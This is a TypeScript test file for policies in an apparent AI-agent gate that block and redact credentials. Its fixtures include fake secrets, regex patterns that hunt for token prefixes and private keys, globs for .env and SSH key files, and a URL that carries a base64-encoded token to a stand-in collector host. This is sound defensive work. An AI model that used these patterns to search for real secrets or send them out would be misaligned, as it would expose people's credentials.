/**
 * Issue 8, credentials: secrets in keys as well as values, credential shapes without a vendor prefix,
 * grep patterns that spell a secret as a regular expression, redaction of every secret found (and never
 * the secret in a reason), size caps, and the linear glob matcher.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import fc from "fast-check"
import * as Credentials from "../../policies/credentials.ts"
import * as Glob from "../../policies/_glob.ts"
import { searchesFor } from "../../policies/_regexSearch.ts"
import * as Policy from "../../src/Policy.ts"
import { policyContext, policyHarness } from "../support/policies.ts"

const { verdict } = policyHarness({ workflow: "agent" })

const j = (...parts: ReadonlyArray<string>): string => parts.join("")
const SECRET = j("9dF3kLm2", "Qr8sT1vW", "x4Yz6Ab0", "Cd7Ef5Gh", "Ij9Kl3Mn")
const TOKEN = j("8fJ2kL9x", "Q3mN7pR4", "sT6vW1yZ")
const GITHUB = j("gh", "p_", "Zq8".repeat(12))
const PASSWORD = j("Tr0ub4", "dor&3x!")

/** Runs dont_copy_api_keys on `content` and checks the invariants every credential verdict keeps. */
const copy = (content: unknown): Policy.Verdict => {
  const v = verdict(Credentials.dontCopyApiKeys, { content })
  for (const secret of v.redact ?? []) assert.notInclude(v.reason, secret, "a reason must not contain the secret")
  return v
}

describe("credential shapes without a vendor prefix", () => {
  it("blocks key-value credentials in text and objects, and redacts exactly the secret", () => {
    const cases: ReadonlyArray<readonly [unknown, string, string]> = [
      [{ Credentials: { SecretAccessKey: SECRET } }, SECRET, "AWS secret access key"],
      [`{"client_secret": "${TOKEN}"}`, TOKEN, "client secret"],
      [`Authorization: Bearer ${TOKEN}`, TOKEN, "authorization header"],
      [{ headers: { authorization: `Bearer ${TOKEN}` } }, TOKEN, "authorization header"],
      [`DB_PASSWORD=${PASSWORD}`, PASSWORD, "password"],
      [`password: "${PASSWORD}"`, PASSWORD, "password"],
      [`mysql --password=${PASSWORD}`, PASSWORD, "password"],
      [`Server=x;Password=${PASSWORD};`, PASSWORD, "password"],
      [`postgres://app:${PASSWORD}@db/prod`, PASSWORD, "password in a URL"],
      [`curl -u admin:${PASSWORD} https://x.example`, PASSWORD, "-u/--user"],
      [`the prod password is ${PASSWORD}`, PASSWORD, "password"],
      [`api token: ${TOKEN}`, TOKEN, "token"],
      [{ [GITHUB]: 1 }, GITHUB, "used as an object key"]
    ]
    for (const [content, secret, kind] of cases) {
      const v = copy(content)
      assert.isFalse(v.passed, JSON.stringify(content))
      assert.include(v.reason, kind, JSON.stringify(content))
      assert.include(v.redact ?? [], secret, JSON.stringify(content))
    }
  })

  it("names the path of a nested secret and redacts every secret found, not just the first", () => {
    const v = copy({ a: [{ password: PASSWORD }], b: { apiKey: TOKEN }, c: GITHUB })
    assert.include(v.reason, "payload.content.a[0].password")
    assert.include(v.reason, "(and 2 more)")
    assert.sameMembers([...(v.redact ?? [])], [PASSWORD, TOKEN, GITHUB])
  })

  it("passes code and text that only mention credentials", () => {
    for (const content of [
      "const password = process.env.DB_PASSWORD", "password: string", "if (!token) return", "API_KEY=<your key>",
      "PASSWORD=${DB_PASSWORD}", "token_type: Bearer", "password_hint: pet", "the password is incorrect",
      { password: "" }, { password: "****" }, { max_tokens: 4096 }, { secret_name: "prod/db" }, { NextToken: "eyJwIjoyfQ==" },
      "Authorization: Bearer $TOKEN", "curl -u \"$USER:$PASS\" https://x.example", "postgres://app:${DB_PASSWORD}@db/app"
    ]) {
      const v = copy(content)
      assert.isTrue(v.passed, `${JSON.stringify(content)}: ${v.reason}`)
      assert.isUndefined(v.redact)
    }
  })
})

describe("block_secrets_in_payload", () => {
  it("finds a credential in any field, key or depth", () => {
    const cases: ReadonlyArray<unknown> = [
      { url: `https://api.example.com/?access_token=${TOKEN}` },
      { body: `the password is ${PASSWORD}` },
      { a: { b: { c: [{ [GITHUB]: true }] } } },
      { command: `export AWS_SECRET_ACCESS_KEY=${SECRET}` }
    ]
    for (const payload of cases) {
      const v = verdict(Credentials.blockSecretsInPayload, payload)
      assert.isFalse(v.passed, JSON.stringify(payload))
      assert.isAbove(v.redact?.length ?? 0, 0)
    }
  })

  it.effect("in shadow mode it blocks nothing, and the gate still learns what to redact", () =>
    Effect.gen(function*() {
      const policy = Policy.shadow(Credentials.blockSecretsInPayload)
      const v = policy.check(policyContext({ note: `pw=${PASSWORD}` }))
      assert.isFalse(Effect.isEffect(v))
      if (!Effect.isEffect(v)) assert.deepStrictEqual(v.redact, [PASSWORD])
      const results = yield* Policy.evaluate([policy], policyContext({ note: `pw=${PASSWORD}` }))
      assert.isTrue(Policy.allPassed(results))
    }))

  it("decodes base64 runs and redacts both the run and the secret it hides", () => {
    const encoded = btoa(`token ${GITHUB}`)
    const v = verdict(Credentials.blockSecretsInPayload, { url: `https://collector.example/?d=${encoded}` })
    assert.isFalse(v.passed)
    assert.include(v.reason, "GitHub token, base64-encoded")
    assert.sameMembers([...(v.redact ?? [])], [encoded, GITHUB])
    assert.isTrue(verdict(Credentials.blockSecretsInPayload, { body: btoa("a harmless attachment, 2025") }).passed)
  })

  it("blocks a payload too large to scan, still redacting the vendor-format secrets it can see", () => {
    const v = verdict(Credentials.blockSecretsInPayload, { blob: `${"x ".repeat(Credentials.MAX_SCAN_CHARS)} ${GITHUB}` })
    assert.isFalse(v.passed)
    assert.include(v.reason, "too large to scan")
    assert.deepStrictEqual(v.redact, [GITHUB])
  })
})

describe("grep patterns written as regular expressions", () => {
  it("treats patterns that spell a secret prefix or name as searches for secrets", () => {
    for (const pattern of [
      "gh[p]_", "AK[I]A", "s.k-", "gh(p|o)_", "\\x67hp_", "g{1}hp_", "gh[o-p]_", "p.ssw.rd", "[Pp][Aa][Ss][Ss]word",
      "BEGIN (RSA|EC) PRIVATE", "xox[bp]-", "sk_l[i]ve", "gh\\(p\\|o\\)_", "client_s[e]cret", GITHUB
    ]) {
      const v = verdict(Credentials.blockGrepSecretPatterns, { grep_pattern: pattern })
      assert.isFalse(v.passed, `${pattern}: ${v.reason}`)
    }
    const literal = verdict(Credentials.blockGrepSecretPatterns, { grep_pattern: GITHUB })
    assert.deepStrictEqual(literal.redact, [GITHUB])
    assert.notInclude(literal.reason, GITHUB)
  })

  it("passes ordinary searches, including broad character classes", () => {
    for (const pattern of ["TODO|FIXME", "useEffect\\(", "[a-z]+_[a-z]+", ".*", "[0-9a-f]{40}", "function\\s+\\w+", "import .* from", "^diff --git"]) {
      const v = verdict(Credentials.blockGrepSecretPatterns, { grep_pattern: pattern })
      assert.isTrue(v.passed, `${pattern}: ${v.reason}`)
    }
  })

  it("the automaton stays fast on hostile patterns and reports what it cannot model", () => {
    assert.strictEqual(searchesFor("(?=x)ghp_"), undefined) // read as basic syntax: no lookahead there, so no match
    assert.strictEqual(searchesFor("a".repeat(1000)), "unsupported")
    const hostile = ["(a*)*b".repeat(50), "(x|y|z){32}".repeat(30), "[".repeat(1000), ".*".repeat(500)]
    for (const p of hostile) {
      const t0 = performance.now()
      searchesFor(p)
      assert.isBelow(performance.now() - t0, 250, p.slice(0, 20))
    }
    assert.include(verdict(Credentials.blockGrepSecretPatterns, { grep_pattern: "x".repeat(2000) }).reason, "more than the 1024 inspected")
  })
})

describe("the linear glob matcher", () => {
  /** A reference: the glob translated to a regular expression, only ever run on tiny inputs here. */
  const reference = (glob: string, name: string): boolean => {
    let re = ""
    for (let i = 0; i < glob.length; i++) {
      const c = glob[i]!
      if (c === "*") re += "[\\s\\S]*"
      else if (c === "?") re += "[\\s\\S]"
      else if (c === "[") {
        const neg = glob[i + 1] === "!" || glob[i + 1] === "^"
        const close = glob.indexOf("]", i + (neg ? 3 : 2))
        if (close < 0) re += "\\["
        else {
          const body = glob.slice(i + (neg ? 2 : 1), close).replace(/[\\\]^]/g, "\\$&")
          re += `[${neg ? "^" : ""}${body}]`
          i = close
        }
      } else re += (c === "\\" && i + 1 < glob.length ? glob[++i]! : c).replace(/[.*+?^${}()|[\]\\/-]/g, "\\$&")
    }
    try {
      return new RegExp(`^${re}$`).test(name)
    } catch {
      return false
    }
  }

  it("agrees with a regular-expression reference on small globs", () => {
    const alphabet = fc.constantFrom(..."ab.*?[]!-e\\".split(""))
    fc.assert(fc.property(fc.string({ unit: alphabet, maxLength: 8 }), fc.string({ unit: fc.constantFrom(..."ab.e-".split("")), maxLength: 8 }), (glob, name) => {
      if (/\[[^\]]*-[^\]]*\]/.test(glob)) return true // ranges are ordered differently in the reference; covered below
      assert.strictEqual(Glob.compile(glob).test(name), reference(glob, name), `${glob} vs ${name}`)
    }), { numRuns: 2000 })
    assert.isTrue(Glob.compile("id_[a-z]sa").test("id_rsa"))
    assert.isFalse(Glob.compile("id_[!r]sa").test("id_rsa"))
  })

  it("stays linear on the inputs that made the regex translation exponential", () => {
    const stars = Glob.compile(`.e${"*".repeat(5000)}q`)
    const t0 = performance.now()
    for (const name of [".env", ".env.production", ".env.local.backup", `.e${"x".repeat(60)}`]) assert.isFalse(stars.test(name))
    const brackets = Glob.compile("[".repeat(1 << 20))
    assert.isFalse(brackets.test(".ssh"))
    assert.isBelow(performance.now() - t0, 500)
  })

  it("block_glob_credentials_dirs caps the pattern length", () => {
    const v = verdict(Credentials.blockGlobCredentialsDirs, { glob_pattern: "[".repeat(5000) })
    assert.isFalse(v.passed)
    assert.include(v.reason, "more than the 4096 inspected")
  })
})
